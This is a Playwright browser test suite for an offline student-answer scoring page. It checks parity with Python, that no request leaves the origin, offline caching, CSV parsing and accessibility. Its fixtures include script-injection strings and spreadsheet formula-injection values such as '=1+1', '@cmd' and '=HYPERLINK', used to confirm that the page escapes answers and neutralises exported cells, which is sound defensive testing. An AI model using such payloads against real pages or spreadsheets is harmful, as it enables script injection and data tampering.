"""The page in a real browser: Debian's Chromium driven by Playwright, the bundle served on 127.0.0.1.

Builds a bundle from a scorer trained in the test, then checks what issue 4 asks: scores and
feature vectors equal Python's, no request leaves the origin and no CSP violation, an offline
second visit, a tampered model refused, a 1,000-answer batch with progress while the page stays
responsive, answers shown as text, a formula-safe CSV export, keyboard use and a 360 px screen.
Screenshots of each state go to $KD_TRAIN_SCREENSHOTS (default: a pytest temporary folder).
"""

from __future__ import annotations

import base64
import contextlib
import csv
import io
import json
import os
import shutil
import struct
import time
from pathlib import Path

import numpy as np
import pytest

from kd_train import bundle, runtime
from web_support import (START_WORKER_JS, make_scorer, make_sequence_scorer, make_transformer_scorer, need_node_modules,
                         second_item)

pytestmark = pytest.mark.slow

CHROMIUM = os.environ.get("KD_TRAIN_CHROMIUM", "/usr/bin/chromium")
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync"]
START_TIMEOUT_MS = 180_000     # Pyodide's start on a loaded 2-core machine takes 5-20 s
READY = "body[data-engine=ready]"
FAILED = "body[data-engine=error]"

TRICKY = [
    "",
    "   \n\t  ",
    "The metal conducts heat into the ice faster than the plastic.",
    "<script>alert('x')</script> heat flows",
    '<img src=x onerror="alert(1)"> metal',
    "Die Wärme fließt schneller vom Metall zum Eis. ÄÖÜ äöü ß STRASSE Straße",
    "🔥🧊 heat 👍🏽 👨‍👩‍👧 the plate is cold ❄️",
    "ＦＵＬＬＷＩＤＴＨ ｔｅｘｔ １２３, 日本語の答え, don’t can't",
    "=1+1", "-2+3", "+SUM(A1)", "@cmd",
    ("The metal plate conducts heat from the room to the ice much faster. " * 300)[:20_000],
]


# ---- fixtures ----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def playwright():
    pytest.importorskip("playwright.sync_api", reason="Playwright is not installed: pip install playwright")
    if not Path(CHROMIUM).is_file():
        pytest.skip(f"no Chromium at {CHROMIUM}: apt-get install chromium (CI does)")
    need_node_modules()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        yield p


@pytest.fixture(scope="module")
def browser(playwright):
    browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)   # a fresh temporary profile
    yield browser
    browser.close()


@pytest.fixture(scope="module")
def scorer_dir(tmp_path_factory):
    return make_scorer(tmp_path_factory.mktemp("scorer") / "demo-ice")


@pytest.fixture(scope="module")
def dist(scorer_dir, tmp_path_factory, playwright):
    out = tmp_path_factory.mktemp("web") / "dist"
    bundle.build([scorer_dir], out, report_sizes=False)
    return out


@pytest.fixture(scope="module")
def shots(tmp_path_factory) -> Path:
    folder = Path(os.environ.get("KD_TRAIN_SCREENSHOTS") or tmp_path_factory.mktemp("screenshots"))
    folder.mkdir(parents=True, exist_ok=True)
    return folder


@contextlib.contextmanager
def ready_page(browser, folder: Path, until: str = READY, **context_options):
    """A page of the bundle in ``folder``, served, in a fresh browser context, once ``until`` is in its DOM
    (default: the engine ready)."""
    server, url = serve(folder)
    context = browser.new_context(**context_options)
    try:
        page = context.new_page()
        page.goto(url)
        page.wait_for_selector(until, state="attached", timeout=START_TIMEOUT_MS)
        yield page
    finally:
        context.close()
        stop(server)


def serve(folder: Path):
    from kd_train.serve import serve_in_thread

    return serve_in_thread(folder)


def stop(server) -> None:
    server.shutdown()
    server.server_close()


class Recorder:
    """Every request of a browser context (page, workers, service worker) and every console problem."""

    def __init__(self, context):
        self.requests: list[str] = []
        self.problems: list[str] = []
        context.on("request", lambda r: self.requests.append(r.url))
        context.on("weberror", lambda e: self.problems.append(f"page error: {e.error}"))
        context.on("console", self._console)

    def _console(self, message) -> None:
        text = message.text
        if message.type == "error" or "Content Security Policy" in text or "Refused to" in text:
            self.problems.append(f"console {message.type}: {text}")

    def foreign(self, origin: str) -> list[str]:
        return [u for u in self.requests if not (u.startswith(origin) or u.startswith(("blob:", "data:")))]


@pytest.fixture(scope="module")
def site(dist, browser, shots):
    """One page on the served bundle, shared by the tests below (its start-up takes seconds)."""
    server, url = serve(dist)
    context = browser.new_context(viewport={"width": 1366, "height": 768}, accept_downloads=True)
    recorder = Recorder(context)
    page = context.new_page()
    t0 = time.perf_counter()
    page.goto(url)
    page.wait_for_selector("#answer:not([disabled])")
    page.screenshot(path=shots / "01-loading.png")
    page.wait_for_selector(READY, state="attached", timeout=START_TIMEOUT_MS)
    print(f"\npage ready in {time.perf_counter() - t0:.1f} s; screenshots in {shots}")
    page.screenshot(path=shots / "02-ready.png", full_page=True)
    yield {"page": page, "url": url, "recorder": recorder, "context": context}
    context.close()
    stop(server)


def score_in_page(page, text: str) -> str:
    page.evaluate("() => document.getElementById('result').replaceChildren()")
    page.fill("#answer", text)
    page.click("#score-button")
    page.wait_for_selector("#result .score, #result .note, #result .error-text")
    return page.inner_text("#result")


def answers_csv(n: int) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["id", "response"])
    specials = ["<script>window.pwned=1</script>", '<img src=x onerror="window.pwned=1">', "=HYPERLINK(\"x\")",
                "+1+2", "-3+4", "@SUM(A1)", "comma, \"quoted\" and\nnewline", ""]
    base = ["The metal conducts heat to the ice faster", "plastic is an insulator so less heat flows",
            "the metal is colder", "I don't know", "heat energy moves from the warm plate into the ice"]
    for i in range(n):
        writer.writerow([f"s{i:04d}" if i % 97 else f"=id{i}", specials[(i // 10) % len(specials)] if i % 10 == 0
                         else f"{base[i % len(base)]} ({i})"])
    return out.getvalue().encode("utf-8")


# ---- in-page engine versus Python ------------------------------------------------------------

WORKER_CALLS = """async ({item, texts}) => {""" + START_WORKER_JS + """  const b64 = (a) => {
    const bytes = new Uint8Array(a.buffer, a.byteOffset, a.byteLength);
    let s = "";
    for (let i = 0; i < bytes.length; i++) s += String.fromCharCode(bytes[i]);
    return btoa(s);
  };
  const f = await call("featurize", {item, texts});
  const s = await call("score", {item, texts});
  w.terminate();
  return {offsets: Array.from(f.offsets), idx: Array.from(f.idx), val: b64(f.val), probs: b64(s.probs)};
}"""


def test_scores_and_features_equal_python(site, scorer_dir):
    from kd_train import featurize
    from kd_train.scorer import Scorer

    scorer = Scorer(scorer_dir)
    config = scorer.info["featurizer"]
    got = site["page"].evaluate(WORKER_CALLS, {"item": "demo-ice", "texts": TRICKY})
    values = np.frombuffer(base64.b64decode(got["val"]), dtype="<f8")
    for i, text in enumerate(TRICKY):
        lo, hi = got["offsets"][i], got["offsets"][i + 1]
        expected = featurize.featurize(text, config)
        assert got["idx"][lo:hi] == [b for b, _ in expected], repr(text[:40])
        assert values[lo:hi].tobytes() == struct.pack(f"<{len(expected)}d", *[v for _, v in expected]), repr(text[:40])
    probs = np.frombuffer(base64.b64decode(got["probs"]), dtype="<f4").reshape(len(TRICKY), -1)
    np.testing.assert_allclose(probs, scorer.predict_proba(TRICKY), atol=1e-5, rtol=0)


FLAG_PROBES = [
    "The metal conducts heat from the room into the ice faster than plastic does.",
    "qzxv plorb tenmka wibbel frosk zanuth klepto vrandi",
    "metal plastic conductor heat insulator ice faster",
    "Two identical ice cubes are placed on two plates, one made of metal and one made of plastic, in the same room.",
    "metal is a conductor " * 12,
    "   ",
    "x" * 20_001,
    "heat heat heat",
    "The water in the puddle evaporates because the sun heats it and the vapour rises into the clouds.",
]


def test_flags_equal_python_and_are_shown(site, scorer_dir, shots, tmp_path):
    """detect.py in the worker flags exactly what `kd-train predict` flags; the page shows why and withholds the score."""
    from kd_train.cli import main

    page = site["page"]
    got = page.evaluate(WORKER_CALLS.replace("probs: b64(s.probs)}", "probs: b64(s.probs), flags: s.flags, reasons: s.reasons}"),
                        {"item": "demo-ice", "texts": FLAG_PROBES})
    answers = tmp_path / "answers.csv"
    with open(answers, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["id", "item", "response"]] + [[f"a{i}", "demo-ice", t] for i, t in enumerate(FLAG_PROBES)])
    assert main(["predict", "--scorer", str(scorer_dir), "--input", str(answers), "--out", str(tmp_path / "s.csv")]) == 0
    predicted = list(csv.DictReader(open(tmp_path / "s.csv", encoding="utf-8")))
    assert [r["flags"] for r in predicted] == [";".join(f) for f in got["flags"]]
    assert got["flags"][0] == [] and got["flags"][5] == ["empty"] and got["flags"][6] == ["refused"]
    assert sum(map(bool, got["flags"])) >= 5, got["flags"]
    assert "other_question" in got["flags"][-1]            # an answer to the other question of the test
    assert predicted[6]["score"] == "" and predicted[6]["flagged"] == "1"

    shown = score_in_page(page, FLAG_PROBES[1])
    assert "Not scored" in shown and "Suggested score" not in shown
    for code in got["flags"][1]:
        assert got["reasons"][code] in shown
    page.screenshot(path=shots / "03b-flagged.png", full_page=True)

    data = io.StringIO()
    csv.writer(data).writerows([["id", "response"]] + [[f"a{i}", t] for i, t in enumerate(FLAG_PROBES)])
    page.set_input_files("#csv-file", {"name": "probes.csv", "mimeType": "text/csv", "buffer": data.getvalue().encode()})
    page.click("#batch-button")
    page.wait_for_selector("#batch-results:not([hidden])", timeout=120_000)
    cells = page.locator("#batch-table tbody tr td:nth-child(6)").all_inner_texts()   # "why not judged"
    for codes, cell in zip(got["flags"], cells):
        assert cell == " ".join(got["reasons"][c] for c in codes)
    with page.expect_download() as download:
        page.click("#download")
    rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_bytes().decode("utf-8-sig"))))
    assert [r["flags"] for r in rows] == [r["flags"] for r in predicted]
    assert [r["flagged"] for r in rows] == [r["flagged"] for r in predicted]
    assert [r["score"] for r in rows] == [r["score"] for r in predicted]
    page.evaluate("() => { document.getElementById('batch-results').hidden = true; }")   # as the next test expects


def test_a_scored_answer_shows_score_probabilities_and_confidence(site, scorer_dir, shots):
    from kd_train.scorer import Scorer

    page = site["page"]
    text = "The metal conducts heat from the room into the ice faster than plastic does."
    shown = score_in_page(page, text)
    scorer = Scorer(scorer_dir)
    probs = scorer.predict_proba([text])[0]
    given = scorer.predict([text])[0]
    assert f"Suggested score: {given}" in shown
    assert "Confidence:" in shown
    for value, p in zip([0, 1, 2, 3], probs):
        assert f"Score {value}\n{round(p * 100)}%" in shown
    assert ("Flagged for teacher review" in shown) == (probs[given] < scorer.info["review_threshold"])
    assert page.get_attribute("#result", "aria-live") == "polite"
    page.screenshot(path=shots / "03-scored.png", full_page=True)
    assert "Type an answer first" in score_in_page(page, "   ")


def test_answers_are_shown_as_text(site):
    page = site["page"]
    score_in_page(page, "<script>window.pwned = 1</script><img src=x onerror=\"window.pwned = 1\">")
    assert page.locator("#result img, #result script").count() == 0
    assert page.evaluate("() => window.pwned") is None


def test_batch_of_1000_with_progress_while_the_page_stays_responsive(site, scorer_dir, shots, tmp_path):
    from kd_train.scorer import Scorer

    page = site["page"]
    data = answers_csv(1000)
    page.set_input_files("#csv-file", {"name": "answers.csv", "mimeType": "text/csv", "buffer": data})
    page.evaluate("""() => {               // the longest gap between timer ticks while the batch runs
      window.maxGap = 0; let last = performance.now();
      window.lagTimer = setInterval(() => { const now = performance.now();
        window.maxGap = Math.max(window.maxGap, now - last); last = now; }, 20);
    }""")
    page.click("#batch-button")
    seen, typed = set(), False
    deadline = time.time() + 300
    while not page.locator("#batch-results:not([hidden])").count():
        value = page.get_attribute("#batch-progress", "value")
        if value:
            seen.add(int(float(value)))
        if not typed and len(seen) > 1:         # typing works while answers are being scored
            page.fill("#answer", "typed during the batch")
            typed = True
            page.screenshot(path=shots / "04-batch-running.png", full_page=True)
        assert time.time() < deadline, "batch did not finish"
        time.sleep(0.05)
    max_gap = page.evaluate("() => { clearInterval(window.lagTimer); return window.maxGap; }")
    assert typed and page.inner_text("#answer") == "typed during the batch"
    assert any(0 < v < 1000 for v in seen), f"no intermediate progress seen: {sorted(seen)}"
    assert max_gap < 1000, f"the page froze for {max_gap:.0f} ms"
    assert "Done: 1000 answers scored" in page.inner_text("#batch-text")
    page.screenshot(path=shots / "05-batch-results.png", full_page=True)

    table = page.locator("#batch-table tbody tr")
    assert table.count() == 1000
    assert page.locator("#batch-table img, #batch-table script").count() == 0
    assert page.evaluate("() => window.pwned") is None
    assert page.inner_text("#batch-table tbody tr:nth-child(1) td.answer") == "<script>window.pwned=1</script>"
    assert page.inner_text("#batch-table tbody tr:nth-child(11) td.answer") == '<img src=x onerror="window.pwned=1">'

    with page.expect_download() as download:
        page.click("#download")
    text = Path(download.value.path()).read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    sent = list(csv.DictReader(io.StringIO(data.decode())))
    assert len(rows) == 1000
    for row, original in zip(rows, sent):
        for key, value in (("id", original["id"]), ("response", original["response"])):
            expected = "'" + value if value[:1] in ("=", "+", "-", "@") else value
            assert row[key] == expected
    assert rows[0]["id"] == "'=id0" and rows[20]["response"] == "'=HYPERLINK(\"x\")"
    probs = Scorer(scorer_dir).predict_proba([r["response"] for r in sent])
    got = np.array([[float(r[f"p_{v}"]) for v in (0, 1, 2, 3)] for r in rows])
    np.testing.assert_allclose(got, probs, atol=1e-5, rtol=0)
    given = Scorer(scorer_dir).scores(probs)
    assert [int(r["score"]) for r in rows] == given
    assert given != list(np.argmax(probs, axis=1))   # the scorer's cutpoints changed some scores: the page applied them


def upload_and_score(page, name: str, data: bytes) -> str:
    page.set_input_files("#csv-file", {"name": name, "mimeType": "text/csv", "buffer": data})
    page.evaluate("() => { document.getElementById('batch-text').textContent = ''; }")   # not the last file's "Done"
    page.click("#batch-button")
    page.wait_for_function("() => /^(Done|Could not|.* has a header row)/.test(document.getElementById('batch-text').textContent)",
                           timeout=120_000)
    return page.inner_text("#batch-status")


CSV_JS_CHECK = r"""
import { neutralise, parseCsv, readAnswers, toCsv } from "./csv.js";
const fixed = [
  ["a,b\nc,d", [["a", "b"], ["c", "d"]]],
  ["\ufeffid,response\r\n1,\"x, \"\"y\"\"\nz\"\r\n\r\n2,w\n", [["id", "response"], ["1", 'x, "y"\nz'], ["2", "w"]]],
  ['"ab"cd,e', [["abcd", "e"]]],
  ['a"b,c', [['a"b', "c"]]],
  ['"",x', [["", "x"]]],
  ["\n\n", []],
  ["", []],
  ["a;b", [["a;b"]]],
];
const got = fixed.map(([text]) => parseCsv(text, ","));
let seed = 3;
const rnd = (n) => { seed = (seed * 1103515245 + 12345) & 0x7fffffff; return seed % n; };
const pieces = ["a", "é", ",", ";", "\t", '"', "\n", "\r\n", " ", "=1", "🔥"];
let roundTrips = 0;
for (let t = 0; t < 3000; t++) {
  const rows = Array.from({ length: 1 + rnd(4) }, () => Array.from({ length: 2 }, () =>
    Array.from({ length: 1 + rnd(6) }, () => pieces[rnd(pieces.length)]).join("")));
  const back = parseCsv(toCsv(rows), ",");
  const risky = (c) => /^[\t\r]/.test(c) || /^[\s\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(c);
  if (JSON.stringify(back) === JSON.stringify(rows.map((r) => r.map((c) => (risky(c) ? "'" + c : c))))) roundTrips++;
}
const cells = [" =1+1", "\uff1dSUM(A1)", "\n=cmd", "\u3000@x", "=1", "-3+4", "+1+2", "-2e3", "-1", "0.25", "+7", "1E5", "a=b", "- item"];
const neutral = cells.map(neutralise);
let unclosed = "";
try { parseCsv('a,"b', ","); } catch (e) { unclosed = e.message; }
const ids = readAnswers("id,response\nrow 3,a\n,b\n,c\n", "x.csv").answers.map((a) => a.id);
console.log(JSON.stringify({ got, want: fixed.map(([, rows]) => rows), roundTrips, unclosed, neutral, ids }));
"""


def test_the_csv_parser_reads_quotes_line_breaks_and_marks_alike(tmp_path):
    """web/page/csv.js under Node.js: fixed cases, a round trip through its own writer (which neutralises
    formulas), and an unclosed quote."""
    import json
    import subprocess

    shutil.copy(bundle.PAGE / "csv.js", tmp_path / "csv.js")
    (tmp_path / "check.mjs").write_text(CSV_JS_CHECK, encoding="utf-8")
    (tmp_path / "package.json").write_text('{"type": "module"}', encoding="utf-8")
    run = subprocess.run(["node", "check.mjs"], cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert run.returncode == 0, run.stderr
    result = json.loads(run.stdout)
    assert result["got"] == result["want"]
    assert result["roundTrips"] == 3000
    assert "ends inside a quoted field" in result["unclosed"]
    assert result["neutral"] == ["' =1+1", "'\uff1dSUM(A1)", "'\n=cmd", "'\u3000@x", "'=1", "'-3+4", "'+1+2",
                                 "-2e3", "-1", "0.25", "+7", "1E5", "a=b", "'- item"]
    assert result["ids"] == ["row 3", "row 3 (no id)", "row 4"]        # a missing id never takes a real one


def test_csv_dialects_are_detected_and_reported(site):
    """Windows-1252 + semicolons (a European spreadsheet's CSV), UTF-16 + tabs, repeated and empty ids,
    a failed upload clearing the previous results, and an error that does not echo control characters."""
    page = site["page"]
    european = "id;response\r\n1;Die Wärme fließt vom Metall ins Eis\r\n1;Métal plus chaud\r\n;plastic\r\n".encode("cp1252")
    status = upload_and_score(page, "excel.csv", european)
    assert "Done: 3 answers scored" in status
    assert "Read as Windows-1252, semicolon-separated." in status
    assert "1 row(s) have no id (row 4)" in status and '1 id(s) appear more than once ("1")' in status
    assert page.inner_text("#batch-table tbody tr:nth-child(1) td.answer") == "Die Wärme fließt vom Metall ins Eis"
    assert page.locator("#batch-results:not([hidden])").count() == 1

    utf16 = "\ufeffid\tresponse\nz1\theat flows into the ice\n".encode("utf-16-le")
    status = upload_and_score(page, "tabs.txt", utf16)
    assert "Done: 1 answer scored" in status and "Read as UTF-16, tab-separated." in status

    binary = bytes(range(256)) * 8
    status = upload_and_score(page, "photo.csv", binary)
    assert status.startswith("Could not read the file") and "response" in status
    assert not any(ord(c) < 32 and c not in "\n\t" for c in status), repr(status[:200])
    assert len(status) < 600
    assert page.locator("#batch-results:not([hidden])").count() == 0      # the old results are gone


def test_keyboard_only_labels_and_contrast(site):
    page = site["page"]
    assert page.locator("label[for=csv-file]").count() == 1
    assert page.get_attribute("#answer", "role") == "textbox" and page.locator("label#answer-label").count() == 1
    assert page.get_attribute("#answer", "aria-labelledby") == "answer-label"
    page.fill("#answer", "")
    page.evaluate("() => { document.getElementById('result').replaceChildren(); document.activeElement.blur(); }")
    for _ in range(10):
        page.keyboard.press("Tab")
        if page.evaluate("() => document.activeElement.id") == "answer":
            break
    assert page.evaluate("() => document.activeElement.id") == "answer"
    page.keyboard.type("Heat flows from the metal into the ice.")
    page.keyboard.press("Control+Enter")
    page.wait_for_selector("#result .score")
    page.keyboard.press("Tab")
    focused = page.evaluate("""() => { const s = getComputedStyle(document.activeElement);
      return [document.activeElement.id, s.outlineStyle, s.outlineWidth]; }""")
    assert focused[0] == "score-button" and focused[1] != "none" and focused[2] != "0px", focused
    colors = page.evaluate("""() => ['body', '.hint', '#score-button', '.question-text', 'footer'].map((sel) => {
      const s = getComputedStyle(document.querySelector(sel));
      return [sel, s.color, s.backgroundColor]; })""")
    for selector, fg, bg in colors:
        bg = bg if bg != "rgba(0, 0, 0, 0)" else "rgb(255, 255, 255)"
        assert contrast(fg, bg) >= 4.5, (selector, fg, bg)


def contrast(fg: str, bg: str) -> float:
    def luminance(color: str) -> float:
        channels = [int(c) / 255 for c in color[color.index("(") + 1:color.index(")")].split(",")[:3]]
        lin = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
        return 0.2126 * lin[0] + 0.7152 * lin[1] + 0.0722 * lin[2]

    hi, lo = sorted([luminance(fg), luminance(bg)], reverse=True)
    return (hi + 0.05) / (lo + 0.05)


def test_small_screen_360px(site, shots):
    page = site["page"]
    page.set_viewport_size({"width": 360, "height": 740})
    try:
        score_in_page(page, "The metal conducts heat faster.")
        assert page.evaluate("() => document.documentElement.scrollWidth") <= 360
        page.screenshot(path=shots / "06-360px.png", full_page=True)
    finally:
        page.set_viewport_size({"width": 1366, "height": 768})


def test_no_request_leaves_the_origin(site):
    """Everything the shared page did (load, scoring, batch mode, here and above) stayed on 127.0.0.1."""
    page, recorder = site["page"], site["recorder"]
    score_in_page(page, "one more answer, with https://example.com/ in it")
    page.set_input_files("#csv-file", {"name": "few.csv", "mimeType": "text/csv", "buffer": answers_csv(30)})
    page.click("#batch-button")
    page.wait_for_selector("#batch-text:has-text('Done: 30 answers')")
    origin = site["url"].rstrip("/")
    assert recorder.requests and all(u.startswith((origin, f"blob:{origin}/")) for u in recorder.requests if "127.0.0.1" in u)
    assert recorder.foreign(origin) == []
    assert recorder.problems == []


# ---- separate visits ---------------------------------------------------------------------------

class LoggingProxy:
    """An HTTP proxy on 127.0.0.1 that records the host of every request the browser sends through it and
    answers 502 (nothing here reaches the internet): the browser's own traffic, made visible."""

    def __init__(self):
        import socketserver
        import threading

        self.hosts: list[str] = []
        proxy = self

        class Handler(socketserver.StreamRequestHandler):
            def handle(self):
                line = self.rfile.readline().decode("latin-1").split()
                if len(line) >= 2:
                    target = line[1]
                    host = target.split("//", 1)[-1].split("/", 1)[0] if "//" in target else target
                    proxy.hosts.append(host.rsplit(":", 1)[0])
                self.wfile.write(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

        class Server(socketserver.ThreadingTCPServer):
            allow_reuse_address = daemon_threads = True

        self.server = Server(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_the_browser_sends_nothing_for_the_page(playwright, dist):
    """Chromium with its background networking ON, through a logging proxy: loading the page, typing,
    scoring and a batch make it contact no host that an about:blank run of the same length does not."""
    def run(action) -> set[str]:
        proxy = LoggingProxy()
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu",
                                                                             f"--proxy-server={proxy.url}"])
        try:
            page = browser.new_context().new_page()
            started = time.time()
            action(page)
            page.wait_for_timeout(max(0, 20_000 - (time.time() - started) * 1000))   # the same length for both
        finally:
            browser.close()
            proxy.close()
        return set(proxy.hosts)

    def use_the_page(page):
        page.goto(url)
        page.wait_for_selector(READY, state="attached", timeout=START_TIMEOUT_MS)
        page.click("#answer")
        page.keyboard.type("The metal plate conducts heat into the ice faster than the plastic one.", delay=20)
        page.click("#score-button")
        page.wait_for_selector("#result .score")
        page.set_input_files("#csv-file", {"name": "a.csv", "mimeType": "text/csv", "buffer": answers_csv(50)})
        page.click("#batch-button")
        page.wait_for_selector("#batch-results:not([hidden])", timeout=120_000)

    server, url = serve(dist)
    try:
        control = run(lambda page: page.goto("about:blank"))
        used = run(use_the_page)
    finally:
        stop(server)
    assert used - control == set(), f"hosts contacted only while the page was used: {sorted(used - control)}"


def test_offline_second_visit(dist, browser, shots, tmp_path):
    copy = tmp_path / "dist"
    shutil.copytree(dist, copy)
    server, url = serve(copy)
    context = browser.new_context(viewport={"width": 1366, "height": 768})
    recorder = Recorder(context)
    try:
        page = context.new_page()
        page.goto(url)
        page.wait_for_selector(READY, state="attached", timeout=START_TIMEOUT_MS)
        cached = page.evaluate("""async () => {
          const reg = await navigator.serviceWorker.ready;
          while (!navigator.serviceWorker.controller) await new Promise((r) => setTimeout(r, 100));
          const names = (await caches.keys()).sort();
          const own = await caches.open(names.find((n) => n !== "kd-train-files"));
          const files = await caches.open("kd-train-files");
          return [names.length, (await own.keys()).length, (await files.keys()).length,
            Object.keys((await (await fetch('manifest.json')).json()).files).length];
        }""")
        assert cached[0] == 2 and cached[1] == 2 and cached[2] == cached[3], cached   # ./ and manifest.json; every file
        stop(server)
        server = None
        page.close()
        page = context.new_page()
        page.goto(url)
        page.wait_for_selector(READY, state="attached", timeout=START_TIMEOUT_MS)
        assert "Suggested score:" in score_in_page(page, "Heat moves faster through metal.")
        page.screenshot(path=shots / "07-offline.png", full_page=True)
        assert recorder.foreign(url.rstrip("/")) == [] and recorder.problems == []
    finally:
        context.close()
        if server:
            stop(server)


PROBS_IN_PAGE = """async (text) => {""" + START_WORKER_JS + """  const s = await call("score", {item: "demo-ice", texts: [text]});
  w.terminate();
  return Array.from(s.probs);
}"""


def test_an_update_never_mixes_two_builds(scorer_dir, browser, tmp_path):
    """Rebuilt with another model on the same origin: no visit shows a damage error, a visit that still runs
    the old build says a new version is ready, and the second visit after the update scores with the new model.
    Waits for the page's own signals (service worker installed, new version ready), never a fixed time."""
    import json

    from kd_train.scorer import Scorer

    other = make_scorer(tmp_path / "other" / "demo-ice", epochs=3)
    text = "The metal conducts heat from the room into the ice faster than plastic does."
    old, new = Scorer(scorer_dir).predict_proba([text])[0], Scorer(other).predict_proba([text])[0]
    assert np.abs(old - new).max() > 1e-3
    site = tmp_path / "site"
    bundle.build([scorer_dir], site, report_sizes=False)
    server, url = serve(site)
    context = browser.new_context()
    recorder = Recorder(context)
    try:
        def visit() -> np.ndarray:
            page = context.new_page()
            page.goto(url)
            page.wait_for_selector(f"{READY}, {FAILED}", state="attached", timeout=START_TIMEOUT_MS)
            assert page.get_attribute("body", "data-engine") == "ready", page.inner_text("#error")
            page.evaluate("() => navigator.serviceWorker.ready")
            shown = score_in_page(page, text)
            assert "Suggested score:" in shown, shown
            probs = np.array(page.evaluate(PROBS_IN_PAGE, text))
            # Until the build on the server is the one whose service worker controls the page: this page is
            # that build with its service worker installed, or an older one that was told a new one is ready.
            latest = json.loads((site / "manifest.json").read_text())["version"]
            try:
                page.wait_for_function("""(latest) => document.body.dataset.update === "ready" || (document.body.dataset
                  .offline === "on" && document.querySelector('meta[name="kd-bundle-version"]').content === latest)""",
                                       arg=latest, timeout=START_TIMEOUT_MS)
            except Exception as err:
                raise AssertionError(f"no update signal; latest build {latest}, page: {page.evaluate(SW_STATE)}") from err
            if page.get_attribute("body", "data-update") == "ready":
                assert "A new version of this page is ready" in page.inner_text("#update")
                notices.append(page.get_attribute('meta[name="kd-bundle-version"]', "content"))
            assert page.get_attribute("body", "data-engine") == "ready" and page.is_hidden("#error")
            assert "Suggested score:" in score_in_page(page, text)
            page.close()
            return probs

        notices = []
        np.testing.assert_allclose(visit(), old, atol=1e-5)
        assert notices == []
        bundle.build([other], site, report_sizes=False, force=True)
        first = visit()                                          # the old build or the new one, never a mix
        assert np.allclose(first, old, atol=1e-5) or np.allclose(first, new, atol=1e-5)
        assert np.allclose(first, new, atol=1e-5) or len(notices) == 1   # the old build says a new one is ready
        np.testing.assert_allclose(visit(), new, atol=1e-5)      # the second visit uses the new model
        assert recorder.problems == []
    finally:
        context.close()
        stop(server)


SW_STATE = """async () => {
  const r = await navigator.serviceWorker.getRegistration();
  const worker = (w) => w ? `${w.state}` : "none";
  return {build: document.querySelector('meta[name="kd-bundle-version"]').content, update: document.body.dataset.update,
          offline: document.body.dataset.offline, controlled: Boolean(navigator.serviceWorker.controller),
          active: worker(r?.active), waiting: worker(r?.waiting), installing: worker(r?.installing),
          offlineText: document.getElementById("offline").textContent};
}"""


class ByteCounter:
    """What kd-train serve sends while installed on a test: (path, status, body bytes) of every response."""

    def __init__(self, monkeypatch):
        from kd_train.serve import BundleHandler

        self.responses: list[list] = []
        send_response, send_header = BundleHandler.send_response, BundleHandler.send_header
        counter = self

        def on_response(handler, code, message=None):
            handler._counted = [handler.path, int(code), 0]
            counter.responses.append(handler._counted)
            send_response(handler, code, message)

        def on_header(handler, keyword, value):
            if keyword == "Content-Length" and getattr(handler, "_counted", None):
                handler._counted[2] = int(value)
            send_header(handler, keyword, value)

        monkeypatch.setattr(BundleHandler, "send_response", on_response)
        monkeypatch.setattr(BundleHandler, "send_header", on_header)

    def take(self) -> list[list]:
        taken, self.responses[:] = list(self.responses), []
        return taken


def served_size(folder: Path) -> int:
    """The bundle's size as kd-train serve sends it to a browser that accepts brotli: each file once."""
    from kd_train import serve as serving

    total = 0
    for path in folder.rglob("*"):
        if path.is_file():
            small = path.suffix in serving.NOT_COMPRESSED or path.stat().st_size < serving.COMPRESS_MIN_BYTES
            total += path.stat().st_size if small else len(serving.compressed(path, "br"))
    return total


def test_a_classroom_downloads_each_byte_once(scorer_dir, browser, tmp_path, monkeypatch):
    """Bytes kd-train serve sends to one browser (page, worker and service worker together), counted at the
    server: the first visit costs the bundle once (not twice: the service worker installs through the HTTP
    cache), an update that changes one scorer costs that scorer's files and the small files, and going
    back to the build before costs no file of the bundle beyond the small ones."""
    import json

    counter = ByteCounter(monkeypatch)
    other = make_scorer(tmp_path / "other" / "demo-ice", epochs=3)
    site = tmp_path / "site"
    bundle.build([scorer_dir], site, report_sizes=False)
    size = served_size(site)
    server, url = serve(site)
    context = browser.new_context()
    try:
        def visit():
            """A visit, until this device holds the build on the server: its service worker installed, or a
            new version announced to a page of the older one (then one more visit runs the new one)."""
            latest = json.loads((site / "manifest.json").read_text())["version"]
            page = context.new_page()
            page.goto(url)
            page.wait_for_selector(f"{READY}, {FAILED}", state="attached", timeout=START_TIMEOUT_MS)
            assert page.get_attribute("body", "data-engine") == "ready", page.inner_text("#error")
            try:
                page.wait_for_function("""(latest) => document.body.dataset.update === "ready" || (document.body.dataset
                  .offline === "on" && document.querySelector('meta[name="kd-bundle-version"]').content === latest)""",
                                       arg=latest, timeout=START_TIMEOUT_MS)
            except Exception as err:
                raise AssertionError(f"no update signal; latest build {latest}, page: {page.evaluate(SW_STATE)}") from err
            version = page.get_attribute('meta[name="kd-bundle-version"]', "content")
            page.close()
            return version == latest

        assert visit()
        first = counter.take()
        sent = sum(n for _, code, n in first if code == 200)
        print(f"\nfirst visit: {sent:,} bytes sent for a bundle of {size:,} bytes as served ({sent / size:.3f}x)")
        assert sent <= 1.05 * size, sorted(first, key=lambda r: -r[2])[:10]

        def update(scorer) -> list[list]:
            bundle.build([scorer], site, report_sizes=False, force=True)
            while not visit():
                pass
            return counter.take()

        updated = update(other)
        sent = sum(n for _, code, n in updated if code == 200)
        print(f"update changing one scorer: {sent:,} bytes sent")
        assert sent <= 300_000, sorted(updated, key=lambda r: -r[2])[:10]
